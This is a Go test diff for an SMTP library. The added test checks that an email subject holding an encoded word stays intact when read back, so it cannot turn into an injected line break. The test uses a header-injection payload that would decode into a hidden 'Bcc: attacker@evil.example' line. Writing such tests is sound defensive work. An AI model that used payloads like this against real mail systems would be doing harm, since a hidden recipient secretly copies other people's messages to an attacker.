@@ -281,3 +281,23 @@ func TestNonASCIILocalPartNeedsSMTPUTF8(t *testing.T) {
 		}
 	})
 }
+
+// The subject is decoded by every reader, encoded words and all: one that
+// holds what looks like an encoded word (an invoice number of an old or
+// forged event) must decode to itself, not to a line break.
+func TestASubjectLikeAnEncodedWordDecodesToItself(t *testing.T) {
+	srv := smtptest.New(t)
+	m, err := smtp.New(smtp.Config{URL: srv.URL(), From: "b@example.com", Domain: "mail.test"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := email
+	e.Subject = "Invoice =?utf-8?q?=0D=0ABcc:_attacker@evil.example?="
+	if err := m.Send(context.Background(), e); err != nil {
+		t.Fatal(err)
+	}
+	got := srv.Wait(1, 10*time.Second)[0]
+	if got.Subject() != e.Subject {
+		t.Errorf("Subject %q decodes to %q, want %q", got.Header.Get("Subject"), got.Subject(), e.Subject)
+	}
+}
